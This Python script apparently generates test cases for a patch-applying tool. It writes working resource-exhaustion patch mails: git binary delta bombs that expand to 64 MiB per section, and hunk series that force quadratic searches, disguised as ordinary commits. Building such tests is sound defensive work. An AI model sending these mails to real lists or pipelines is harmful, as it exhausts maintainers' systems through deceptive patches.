#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0-only
"""hostile_patch.py - patch mails that cost the apply out of proportion to
their size (issue 33), written as an attacker would. They create the
files they then patch, so they apply to any tree (the demo tree), and
every id in them is right: "git apply" takes them too.

  delta-bomb OUT SECTIONS [ID]
      one mail, one patch of about 150 bytes a section: a binary literal
      creates lib/blob.bin (64 KiB), then SECTIONS git binary "delta"
      sections rewrite it, each into a 64 MiB file (1,023 copies of its
      first 64 KiB, one op byte each: the delta is 1 KiB, deflated to
      about 30 bytes). Without a total cap on the blobs an apply makes,
      the mail costs SECTIONS x 64 MiB.

  hunk-search OUTDIR LINES HUNKS [ID]
      a series of 2 (with a cover letter): patch 1 creates lib/big.txt, LINES
      lines of "x" then HUNKS pairs of distinct lines, as a git binary
      literal (a few KB of zlib); patch 2 changes each pair with a hunk
      whose header says line 2, so that git apply's search for each one
      walks the whole file: LINES x HUNKS line comparisons.

ID (default "bomb", "search") starts the Message-IDs, so that several
variants can go to one list. Python standard library only.
"""
import base64
import hashlib
import os
import sys
import zlib

FROM = "Mallory <mallory@evil.example>"
DATE = "Tue, 3 Nov 2026 12:00:00 +0000"


def blob_id(data):
    return hashlib.sha1(b"blob %d\0" % len(data) + data).hexdigest()


def b85_lines(data):
    """git's base85 lines: a length character, then 5 chars per 4 bytes."""
    out = []
    for i in range(0, len(data), 52):
        chunk = data[i:i + 52]
        n = len(chunk)
        c = chr(ord("A") + n - 1) if n <= 26 else chr(ord("a") + n - 27)
        out.append(c + base64.b85encode(chunk, pad=True).decode())
    return "\n".join(out) + "\n"


def binary_block(kind, raw):
    return "%s %d\n%s\n" % (kind, len(raw), b85_lines(zlib.compress(raw, 9)))


def varint(n):
    out = bytearray()
    while True:
        b = n & 0x7F
        n >>= 7
        if n:
            out.append(b | 0x80)
        else:
            out.append(b)
            return bytes(out)


def mail(msgid, subject, body, reply_to=None):
    head = ["From: " + FROM, "To: demo-list@example.org", "Date: " + DATE,
            "Message-ID: <%s>" % msgid, "Subject: " + subject]
    if reply_to:
        head += ["In-Reply-To: <%s>" % reply_to, "References: <%s>" % reply_to]
    return "\n".join(head) + "\n\n" + body


def delta_bomb(out, sections, mid="bomb"):
    src = b"\0" * 65535 + b"\n"
    diff = ["diff --git a/lib/blob.bin b/lib/blob.bin\n"
            "new file mode 100644\n"
            "index 0000000000000000000000000000000000000000..%s\n"
            "GIT binary patch\n%sliteral 0\nHcmV?d00001\n\n"
            % (blob_id(src), binary_block("literal", src))]
    cur = src
    for k in range(sections):
        # insert one byte (k), then 1,023 x "copy 64 KiB from offset 0"
        delta = varint(len(cur)) + varint(1 + 1023 * 65536) + \
            bytes([1, k & 0xFF]) + b"\x80" * 1023
        new = bytes([k & 0xFF]) + cur[:65536] * 1023
        diff.append("diff --git a/lib/blob.bin b/lib/blob.bin\n"
                    "index %s..%s 100644\nGIT binary patch\n%s"
                    "literal 0\nHcmV?d00001\n\n"
                    % (blob_id(cur), blob_id(new), binary_block("delta", delta)))
        cur = new
    body = ("Add the firmware image the driver loads.\n\n"
            "Signed-off-by: %s\n---\n%s-- \n2.39.2\n" % (FROM, "".join(diff)))
    with open(out, "w") as f:
        f.write(mail("%s@evil.example" % mid, "[PATCH] lib: add the blob",
                     body))


def hunk_search(outdir, lines, hunks, mid="search"):
    os.makedirs(outdir, exist_ok=True)
    text = b"x\n" * lines + b"".join(
        b"a%d\nb%d\n" % (k, k) for k in range(hunks))
    cover = mail("%s-0@evil.example" % mid, "[PATCH 0/2] lib: add a table",
                 "A big table, and a fix to it.\n\n-- \n2.39.2\n")
    p1 = ("Add the table.\n\nSigned-off-by: %s\n---\n"
          "diff --git a/lib/big.txt b/lib/big.txt\nnew file mode 100644\n"
          "index 0000000000000000000000000000000000000000..%s\n"
          "GIT binary patch\n%sliteral 0\nHcmV?d00001\n\n-- \n2.39.2\n"
          % (FROM, blob_id(text), binary_block("literal", text)))
    out = [b"x\n" * lines]
    for k in range(hunks):
        out.append(b"a%d\nz\nb%d\n" % (k, k))
    new = b"".join(out)
    h = ["@@ -2,2 +2,3 @@\n a%d\n+z\n b%d\n" % (k, k) for k in range(hunks)]
    p2 = ("Mark every entry.\n\nSigned-off-by: %s\n---\n"
          "diff --git a/lib/big.txt b/lib/big.txt\nindex %s..%s 100644\n"
          "--- a/lib/big.txt\n+++ b/lib/big.txt\n%s-- \n2.39.2\n"
          % (FROM, blob_id(text)[:12], blob_id(new)[:12], "".join(h)))
    for name, m in (("0000-cover.eml", cover),
                    ("0001.eml", mail("%s-1@evil.example" % mid,
                                      "[PATCH 1/2] lib: add the table", p1,
                                      "%s-0@evil.example" % mid)),
                    ("0002.eml", mail("%s-2@evil.example" % mid,
                                      "[PATCH 2/2] lib: mark every entry", p2,
                                      "%s-0@evil.example" % mid))):
        with open(os.path.join(outdir, name), "w") as f:
            f.write(m)


def main():
    a = sys.argv
    if len(a) in (4, 5) and a[1] == "delta-bomb":
        delta_bomb(a[2], int(a[3]), *a[4:])
    elif len(a) in (5, 6) and a[1] == "hunk-search":
        hunk_search(a[2], int(a[3]), int(a[4]), *a[5:])
    else:
        sys.exit(__doc__)


if __name__ == "__main__":
    main()
